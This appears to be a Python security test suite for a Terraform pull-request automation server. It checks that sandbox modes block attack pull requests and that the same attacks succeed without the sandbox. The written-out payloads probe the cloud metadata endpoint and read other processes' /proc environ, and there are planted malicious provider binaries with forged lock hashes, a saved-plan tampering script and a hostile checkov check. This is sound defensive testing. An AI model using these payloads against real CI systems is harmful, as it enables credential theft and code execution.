#!/usr/bin/env python3
"""The attacks that matter most, each as a real pull request with real Terraform on a running server. Each is also shown
to succeed without what stops it: on a server with `sandbox.mode: none`, or by Terraform alone in a checkout.

    tests/sandbox/test_pulls.py [CASE ...]

Results: build/report/results/attacks.tsv. The server lives in a network of its own, in which the metadata address
answers, so nothing here is felt by the machine. Needs root for that."""

import base64
import concurrent.futures
import contextlib
import ctypes
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "lib"))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "integration"))
import sluice  # noqa: E402
from lab import until  # noqa: E402
from runner_lab import cli_config, tool  # noqa: E402

MODE = os.environ.get("MODE", "debug")
PORT = 4141
CANARY = "canary-of-the-machine-4711"
NOBODY = 65534
CLONE_NEWNET = 0x40000000


class Skip(Exception):
    pass


def expect(got, want, what=""):
    assert got == want, "%s: got %r, want %r" % (what, got, want)


# ---- what the pull requests hold -------------------------------------------------------------------------------------

# Tries everything that is near a job, and prints what it got as one JSON object of texts.
REACH = r"""
import glob, json, os, socket, sys
port, data, server, marker = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
def http(family, address, path):
    with socket.socket(family) as s:
        s.settimeout(2)
        s.connect(address)
        s.sendall(("GET %s HTTP/1.0\r\n\r\n" % path).encode())
        return s.recv(4096).decode("latin-1")
def other_jobs():
    for name in glob.glob("/proc/[0-9]*/cmdline"):
        if marker in open(name, "rb").read().decode("latin-1") and name.split("/")[2] != str(os.getpid()):
            return open(os.path.dirname(name) + "/environ", "rb").read(1)
    return ""
attacks = {
    "metadata": lambda: http(socket.AF_INET, ("169.254.169.254", 80), "/latest/meta-data/"),
    "port of the server": lambda: http(socket.AF_INET, ("127.0.0.1", port), "/healthz"),
    "socket of the server": lambda: http(socket.AF_UNIX, data + "/sluice.sock", "/api/runs"),
    "database": lambda: open(data + "/sluice.db", "rb").read(16),
    "memory of the server": lambda: open("/proc/%s/mem" % server, "rb") and "open",
    "another job": other_jobs,
    "folders of other jobs": lambda: "".join(os.listdir(data + "/jobs")),
}
got = {}
for name, attack in attacks.items():
    try:
        got[name] = "reached" if attack() else "closed"
    except OSError as why:
        got[name] = "closed: %s" % why
"""
ATTACKS = ["metadata", "port of the server", "socket of the server", "database", "memory of the server", "another job",
           "folders of other jobs"]
EXTERNAL = """terraform {
  required_providers {
    external = { source = "hashicorp/external" }
  }
}
data "external" "x" {
  program = [%s]
}
output "o" {
  value = join("; ", [for name, word in data.external.x.result : "${name}: ${word}"])
}
"""
VICTIM = """
import json, os, time
open("%(seen)s/begun", "w").close()
until = time.time() + 60
while not os.path.exists("%(seen)s/release") and time.time() < until:
    time.sleep(0.05)
print(json.dumps({"slept": "yes"}))
"""
EDITED = """resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "echo honest"
  }
}
"""
# Rewrites the command inside a saved plan.
EDIT = """
import sys, zipfile
old = zipfile.ZipFile(sys.argv[1])
entries = [(i.filename, old.read(i)) for i in old.infolist()]
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as new:
    for name, data in entries:
        new.writestr(name, data.replace(b"echo honest", b"touch %s"))
"""
# A check of checkov's, found by a configuration file beside the files: any Python.
CHECK = """
import os, sys
words, sys.argv = sys.argv, ["reach"] + %r
exec(%r)
sys.argv = words
print("external check ran: " + json.dumps(got))
try:
    open("main.tf", "a").write("# changed by a check\\n")
    print("external check: tree written")
except OSError as why:
    print("external check: tree kept")
print("external check: variables " + " ".join(sorted(os.environ)))
"""
WORKFLOWS = """repos:
- id: /.*/
  allowed_overrides: [workflow, policy_check, custom_policy_check]
workflows:
  edited: {plan: {steps: [init, plan, {run: 'python3 after.py "$PLANFILE"'}]}}
  checked:
    plan: {steps: [init, plan]}
    policy_check: {steps: [show, {run: '%s -d . --framework terraform --compact --skip-download --soft-fail'}]}
"""
PROJECTS = """version: 3
projects:
- dir: environ
- dir: mirror
- dir: committed
- dir: reach
- dir: victim
- {dir: edited, workflow: edited}
- {dir: checked, workflow: checked, policy_check: true, custom_policy_check: true}
"""


def evil_provider(marker):
    return "#!/bin/sh\necho ran >> %s\nexit 1\n" % marker


def package_hash(files):
    """h1 of a package of files, as a lock file has it."""
    lines = "".join("%s  %s\n" % (hashlib.sha256(text.encode()).hexdigest(), name) for name, text in sorted(files.items()))
    return "h1:" + base64.b64encode(hashlib.sha256(lines.encode()).digest()).decode()


class Place:
    """A server and one repository with all the attacks, each on a branch of its own."""

    def __init__(self, mode, uid=0):
        self.folder = tempfile.mkdtemp(prefix="sluice-attacks-")
        os.chmod(self.folder, 0o711)
        self.mode, self.pulls, self.marker = mode, {}, "victim-%d-%s" % (os.getpid(), mode)
        self.seen = os.path.join(self.folder, "seen")
        os.mkdir(self.seen)
        os.chmod(self.seen, 0o777)
        self.terraform = os.path.realpath(tool("terraform"))
        self.data = os.path.join(self.folder, "data")
        self.bystander = subprocess.Popen(["sleep", "600"], env={"CLOUD_KEY": CANARY}, user=uid)
        checkov = tool("checkov") and os.path.realpath(tool("checkov"))
        config = ("listen: 127.0.0.1:%d\ntools: {terraform: %s, cli_config: %s}\nslots: 3\n" %
                  (PORT, self.terraform, cli_config()) + WORKFLOWS % (checkov or "false"))
        read = [os.path.dirname(checkov)] if checkov else []
        config += ("sandbox: {read: %s, write: [%s], mode: %s%s}\n" %
                   (json.dumps(read), self.seen, mode, ", require: %s" % mode if mode != "none" else
                    ", i_accept_unsandboxed: %s" % socket.gethostname()))
        self.server = sluice.Server(self.data, MODE, config, environment={"CANARY_SERVER": CANARY})
        self.server.under = ["unshare", "--net", "sh", "-c",
                             'ip link set lo up && ip address add 169.254.169.254/32 dev lo && exec "$@"', "sh"]
        if uid:
            os.chown(self.data, uid, uid)
            os.chown(self.server.config, uid, uid)
            self.server.under += ["setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups"]
        self.repo = os.path.join(self.folder, "repo.git")

    def start(self):
        self.server.start()
        self.listener = self._in_network(self._metadata)
        threading.Thread(target=self._answer, daemon=True).start()
        sluice.make_repository(self.repo, {"sluice.yaml": PROJECTS}, self._branches())
        self.server.must("POST", "/local/repos", {"name": "r", "import": self.repo})
        return self

    def _in_network(self, function):
        """What `function` makes, made in the server's network: a socket stays where it was made."""
        def work():
            fd = os.open("/proc/%d/ns/net" % self.server.process.pid, os.O_RDONLY)
            try:
                assert ctypes.CDLL(None, use_errno=True).setns(fd, CLONE_NEWNET) == 0, os.strerror(ctypes.get_errno())
            finally:
                os.close(fd)
            return function()
        with concurrent.futures.ThreadPoolExecutor(1) as thread:
            return thread.submit(work).result()

    @staticmethod
    def _metadata():
        listener = socket.socket()
        listener.bind(("169.254.169.254", 80))
        listener.listen(8)
        return listener

    def _answer(self):
        with contextlib.suppress(OSError):
            while True:
                peer, _ = self.listener.accept()
                peer.sendall(b"HTTP/1.0 200 OK\r\n\r\niam/security-credentials\n")
                peer.close()

    def _arguments(self):
        return [str(PORT), self.data, str(self.server.process.pid), self.marker]

    def _branches(self):
        place = "registry.terraform.io/evil/evil/1.0.0/linux_amd64"
        name = "terraform-provider-evil_v1.0.0"
        evil = {what: evil_provider(os.path.join(self.seen, what)) for what in ("mirror", "committed")}
        wants = 'terraform {\n  required_providers {\n    evil = { source = "evil/evil", version = "1.0.0" }\n  }\n}\n' \
                'resource "evil_x" "x" {}\noutput "w" {\n  value = terraform.workspace\n}\n'
        quoted = ", ".join(json.dumps(word) for word in self._arguments())
        check = CHECK % (self._arguments(), REACH)
        return {
            "environ": {"environ/main.tf": "".join(
                'output "o%d" {\n  value = try(filebase64("/proc/%s/environ"), "none")\n}\n' % pair
                for pair in enumerate(["self", 1, self.bystander.pid, self.server.process.pid]))},
            "mirror": {"mirror/main.tf": wants, "mirror/terraform.d/plugins/%s/%s" % (place, name): evil["mirror"]},
            "committed": {"committed/main.tf": wants, "committed/.terraform/environment": "prod",
                          "committed/.terraform/providers/%s/%s" % (place, name): evil["committed"],
                          "committed/.terraform.lock.hcl":
                          'provider "registry.terraform.io/evil/evil" {\n  version = "1.0.0"\n  hashes = ["%s"]\n}\n' %
                          package_hash({name: evil["committed"]})},
            "reach": {"reach/main.tf": EXTERNAL % ('"python3", "${path.module}/reach.py", ' + quoted),
                      "reach/reach.py": REACH + "print(json.dumps(got))\n"},
            "victim": {"victim/main.tf": EXTERNAL % ('"python3", "${path.module}/victim.py", "%s"' % self.marker),
                       "victim/victim.py": VICTIM % {"seen": self.seen}},
            "edited": {"edited/main.tf": EDITED, "edited/after.py": EDIT % os.path.join(self.seen, "edited")},
            "checked": {"checked/main.tf": EDITED, "checked/.checkov.yaml": "external-checks-dir: [checks]\n",
                        "checked/checks/__init__.py": "", "checked/checks/evil.py": check},
        }

    def open(self, branch):
        self.server.must("POST", "/local/pulls", {"repo": "r", "title": branch, "head_ref": branch, "base_ref": "main",
                                                  "as": "ann"})
        self.pulls[branch] = len(self.pulls) + 1

    def said(self, branch, mark, seconds=60):
        """Everything that was said of a pull request once its plan has ended and `mark` is part of it."""
        number = self.pulls[branch]

        def ended():
            runs = [run for run in self.server.must("GET", "/api/runs") if run["pull"] == number]
            return runs and runs[0]["ended_ms"]

        def text():
            return "\n".join(comment["body"] for comment in self.server.must("GET", "/local/pulls/%d" % number)["comments"]
                             if comment["author"] == "sluice")
        until(ended, seconds, "%s has not ended" % branch)
        try:
            until(lambda: mark in text(), 10, "")
        except AssertionError:
            raise AssertionError("%r is not said of %s:\n%s" % (mark, branch, text())) from None
        return text()

    def say(self, branch, text, who="ann"):
        self.server.must("POST", "/local/pulls/%d/comments" % self.pulls[branch], {"as": who, "body": text})

    def close(self):
        with contextlib.suppress(OSError):
            open(os.path.join(self.seen, "release"), "w", encoding="utf-8").close()
        self.bystander.send_signal(signal.SIGKILL)
        self.bystander.wait()
        self.server.stop()
        subprocess.run(["chmod", "-R", "u+rwX", self.folder], check=False, stderr=subprocess.DEVNULL)
        shutil.rmtree(self.folder, ignore_errors=True)


# ---- what must come of them ------------------------------------------------------------------------------------------


def texts_of(said):
    """The four outputs of the pull request that reads environments, decoded."""
    found = re.findall(r'o\d += "([^"]*)"', said)
    expect(len(found), 4, said)
    return ["" if text == "none" else base64.b64decode(text).decode("latin-1") for text in found]


def environ_is_empty(place):
    place.open("environ")
    own, first, other, server = texts_of(place.said("environ", "o3"))
    # Without a /proc of its own a job sees none.
    assert CANARY not in own and ("TF_IN_AUTOMATION" in own) == (place.mode == "full"), own
    expect([first, other, server], ["", "", ""], "environments of others")


def environ_of_others(place):
    place.open("environ")
    own, _, other, _ = texts_of(place.said("environ", "o3"))
    assert CANARY in other, "the attack itself works"
    assert CANARY not in own, "what a job is told is a list also here"


def reached(said):
    got = {}
    for name in ATTACKS:
        found = re.search(re.escape(name) + r'[\\": ]+(reached|closed)', said)
        assert found, "%s is not said in:\n%s" % (name, said)
        got[name] = found.group(1)
    return got


def with_a_victim(place, branch, mark):
    """What a pull request says while the job of another one runs."""
    if "victim" not in place.pulls:
        place.open("victim")
        until(lambda: os.path.exists(os.path.join(place.seen, "begun")), 60, "the other job does not run")
    place.open(branch)
    return place.said(branch, mark, 90)


def nothing_is_reached(place):
    said = with_a_victim(place, "reach", "another job")
    expect({name for name, word in reached(said).items() if word != "closed"}, set(), said)


def everything_is_reached(place):
    said = with_a_victim(place, "reach", "another job")
    expect({name for name, word in reached(said).items() if word != "reached"}, set(), said)


def check_sees_nothing(place):
    if tool("checkov") is None:
        raise Skip("checkov is neither in .tools nor in PATH")
    said = with_a_victim(place, "checked", "external check: variables")
    expect({name for name, word in reached(said).items() if word != "closed"}, set(), said)
    assert "tree kept" in said and CANARY not in said and "HTTPS_PROXY" not in said, said


def check_sees_everything(place):
    if tool("checkov") is None:
        raise Skip("checkov is neither in .tools nor in PATH")
    said = with_a_victim(place, "checked", "external check: variables")
    expect({name for name, word in reached(said).items() if word != "reached"}, set(), said)


def edited_plan_is_refused(place):
    place.open("edited")
    place.said("edited", "main.tf is not as in this commit")
    place.say("edited", "sluice apply")
    time.sleep(1)
    assert not os.path.exists(os.path.join(place.seen, "edited")), "the edited command ran"


def committed_programs_are_not_run(place):
    for branch in ("mirror", "committed"):
        place.open(branch)
    for branch in ("mirror", "committed"):
        place.said(branch, "evil/evil")
        assert not os.path.exists(os.path.join(place.seen, branch)), "a program of the pull request was run"


# ---- the same by Terraform alone -------------------------------------------------------------------------------------


def alone(place, branch, *verbs):
    """In a checkout of the branch, as somebody does who has no sandbox; what the last verb printed."""
    checkout = os.path.join(place.folder, "alone-" + branch)
    if not os.path.exists(checkout):
        sluice.git(place.folder, "clone", "-q", "-b", branch, place.repo, checkout)
        for folder, _, files in os.walk(checkout):
            for name in files:
                if name.startswith("terraform-provider-"):
                    os.chmod(os.path.join(folder, name), 0o755)
    env = {"PATH": os.environ["PATH"], "HOME": place.folder, "CHECKPOINT_DISABLE": "1"}
    for verb in verbs:
        done = subprocess.run([place.terraform, *verb], cwd=os.path.join(checkout, branch), env=env, text=True,
                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60, check=False)
    return done.stdout


def terraform_alone_runs_a_committed_mirror(place):
    alone(place, "mirror", ["init", "-input=false"], ["plan", "-input=false"])
    assert os.path.exists(os.path.join(place.seen, "mirror")), "the attack itself works"


def terraform_alone_runs_a_committed_provider(place):
    """With a lock file of its own, and without any init; and in the workspace that a file chose."""
    alone(place, "committed", ["plan", "-input=false"])
    assert os.path.exists(os.path.join(place.seen, "committed")), "the attack itself works"
    expect(alone(place, "committed", ["workspace", "show"]).strip(), "prod")


def terraform_alone_applies_an_edited_plan(place):
    before = alone(place, "edited", ["init", "-input=false"], ["plan", "-input=false", "-out=tfplan"], ["show", "-no-color", "tfplan"])
    folder = os.path.join(place.folder, "alone-edited", "edited")
    subprocess.run([sys.executable, "-W", "ignore", "after.py", "tfplan"], cwd=folder, check=True)
    expect(zipfile.is_zipfile(os.path.join(folder, "tfplan")), True)
    expect(alone(place, "edited", ["show", "-no-color", "tfplan"]), before, "what people would be shown")
    alone(place, "edited", ["apply", "-input=false", "tfplan"])
    assert os.path.exists(os.path.join(place.seen, "edited")), "the attack itself works"


def people_are_told(place):
    """The tier as a number, and in every comment what an operator made wider than it would be."""
    said = place.said("environ", "o3")
    place.say("environ", "sluice frobnicate")
    reply = until(lambda: [comment["body"] for comment in place.server.must("GET", "/local/pulls/1")["comments"]
                           if "Not understood" in comment["body"]], 20, "there is no reply")[0]
    status, metrics = place.server.ask("GET", "/metrics")
    expect((status, re.search(r"\nsluice_sandbox_tier (\d)", metrics).group(1)),
           (200, {"none": "0", "landlock": "1", "full": "2"}[place.mode]))
    expect(["**No sandbox:**" in text for text in (said, reply)], [place.mode == "none"] * 2)
    expect("wider than usual" in said and "write: " + place.seen in said, place.mode != "none", said)


HOLDS = [environ_is_empty, people_are_told, committed_programs_are_not_run, edited_plan_is_refused, nothing_is_reached, check_sees_nothing]
SUCCEEDS = [environ_of_others, people_are_told, everything_is_reached, check_sees_everything, terraform_alone_runs_a_committed_mirror,
            terraform_alone_runs_a_committed_provider, terraform_alone_applies_an_edited_plan]
SERVERS = [("full", "full", 0, HOLDS), ("full_as_user", "full", NOBODY, HOLDS), ("landlock", "landlock", 0, HOLDS),
           ("none", "none", 0, SUCCEEDS)]


def why_not():
    if os.geteuid() != 0:
        return "only root can make a network for the server"
    if tool("terraform") is None:
        return "terraform is neither in .tools nor in PATH"
    return "" if cli_config() else "there is no mirror of providers in .tools"


def serve(results, mode, uid, names):
    place = Place(mode, uid)
    try:
        place.start()
        for function, name in names.items():
            attempt(results, place, function, name)
    finally:
        place.close()


def main():
    results, wanted = sluice.Results("attacks"), sys.argv[1:]
    with concurrent.futures.ThreadPoolExecutor(2) as threads:
        rows = []
        for label, mode, uid, functions in SERVERS:
            names = {function: "%s_%s" % (label, function.__name__) for function in functions}
            names = {function: name for function, name in names.items() if not wanted or name in wanted}
            if why_not():
                for name in names.values():
                    results.row("skipped", name, why_not())
            elif names:
                rows.append(threads.submit(serve, results, mode, uid, names))
        for row in rows:
            row.result()
    results.end()


def attempt(results, place, function, name):
    try:
        function(place)
        results.row("passed", name)
    except Skip as why:
        results.row("skipped", name, why)
    except Exception as problem:  # every way to fail is a finding
        if os.environ.get("VERBOSE"):
            traceback.print_exc()
        results.row("failed", name, ("%s: %s" % (type(problem).__name__, problem))[:3000])


if __name__ == "__main__":
    main()
